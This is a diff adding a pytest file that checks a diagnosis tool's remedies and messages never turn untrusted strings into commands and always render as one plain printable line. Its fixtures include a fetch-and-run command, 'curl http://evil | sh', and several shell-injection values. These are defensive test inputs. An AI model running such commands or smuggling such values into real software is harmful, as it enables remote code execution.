@@ -1,0 +1,109 @@
+"""What strangers write reaches the operator neither as a command of ours nor as more than one plain line."""
+
+from dataclasses import asdict
+
+import pytest
+
+from pointit.diagnosis.diagnose import diagnose
+from pointit.diagnosis.observation import Finding, Observation, Report
+from pointit.diagnosis.writers import start_command
+from pointit.schemas import Deployment, ExpectedService, Health
+
+EVIL = "curl http://evil | sh"
+NOW_S = 103.0
+
+
+def health(instance: str, **fields: object) -> Health:
+    service, _, user = instance.partition(".")
+    values: dict[str, object] = {"service": service, "user": user, "instance": instance, "pid": 7, **fields}
+    return Health.model_validate({"stamp_ns": 0, "uptime_s": 60.0, **values})
+
+
+def found(*newest: Health, deployments: dict[str, Deployment] | None = None) -> list[Finding]:
+    reports = {each.instance: [Report(received_s=NOW_S, health=each)] for each in newest}
+    return diagnose(
+        Observation(
+            began_s=NOW_S - 3.0,
+            now_s=NOW_S,
+            present=frozenset(reports),
+            reports=reports,
+            deployments=deployments or {},
+        )
+    )
+
+
+def deployment(*services: ExpectedService) -> Deployment:
+    return Deployment(stamp_ns=0, name=EVIL, services=services, scenario=EVIL, scenarios=(EVIL,))
+
+
+def test_command_of_a_deployment_is_built_here() -> None:
+    told = deployment(ExpectedService(service="pointing", user="anna", command=("sh", "-c", EVIL)))
+    (finding,) = found(health("pui"), deployments={"anna": told})
+    assert finding.service == "pointing.anna"
+    assert finding.remedy.startswith("start it again: pointit service pointing --user anna (")
+    assert "evil" not in str(asdict(finding))
+
+
+def test_name_in_a_deployment_is_not_shown() -> None:
+    (finding,) = found(
+        health("pui"), deployments={"anna": deployment(ExpectedService(service="pointing", user="anna"))}
+    )
+    assert finding.remedy == "it runs inside the process that started anna: start that again"
+
+
+def test_deployment_of_a_person_is_believed_for_that_person_only() -> None:
+    told = deployment(
+        ExpectedService(service="selector", command=("sh", "-c", EVIL)),
+        ExpectedService(service="pointing", user="ben"),
+        ExpectedService(service="pointing", user="anna"),
+    )
+    believed = told.believed("anna")
+    assert [each.user for each in believed.services] == ["anna"]
+    assert (believed.scenario, believed.scenarios, believed.name) == ("", (), "anna")
+    assert {finding.service for finding in found(health("pui"), deployments={"anna": told})} == {
+        "pointing.anna"
+    }
+    assert told.believed("run.scenario_4") == told
+
+
+@pytest.mark.parametrize(
+    ("service", "user"),
+    [("$(curl evil)", ""), ("pui;curl evil", "anna"), ("nobody", ""), ("pointing", "x;curl"), ("pui", "-x")],
+)
+def test_no_command_is_built_of_unknown_services_or_impossible_names(service: str, user: str) -> None:
+    assert start_command(service, user) == ""
+    told = deployment(ExpectedService(service=service, user=user, command=("x",)))
+    for finding in found(health("pui"), deployments={"run.x": told}):
+        assert "curl" not in finding.service
+        assert "pointit service" not in finding.remedy
+
+
+def test_known_service_has_a_command() -> None:
+    assert start_command("pui") == "pointit service pui"
+    assert start_command("pointing", "anna") == "pointit service pointing --user anna"
+
+
+def test_warning_of_a_persons_service_is_quoted_on_one_plain_line() -> None:
+    (finding,) = found(
+        health("pointing.anna", warnings=(f"lost\nerror: pui: run `{EVIL}`\x1b[2J\u202e" + "x" * 5000,))
+    )
+    assert finding.sentence.startswith(f"says: “lost error: pui: run `{EVIL}`?[2J?xxx")
+    assert finding.sentence.isprintable()
+    assert len(finding.sentence) < 700
+
+
+def test_name_of_the_machine_is_one_plain_line() -> None:
+    reports = [
+        Report(received_s=NOW_S - 1, health=health("pui", pid=8, host=f"a\n{'b' * 100}")),
+        Report(received_s=NOW_S, health=health("pui", pid=9)),
+    ]
+    seen = Observation(began_s=NOW_S - 3.0, now_s=NOW_S, present=frozenset({"pui"}), reports={"pui": reports})
+    (twice,) = (finding for finding in diagnose(seen) if finding.code == "twice")
+    assert twice.sentence.isprintable()
+    assert len(twice.sentence) < 200
+
+
+def test_person_in_a_remedy_is_the_one_of_the_key() -> None:
+    figures = ({"name": "position σ", "value": 9.0, "unit": "m"},)  # noqa: RUF001 - the localizer's own
+    (finding,) = found(health("localizer.anna", user=f"x`; {EVIL}", figures=figures))
+    assert "pointit press anna " in finding.remedy
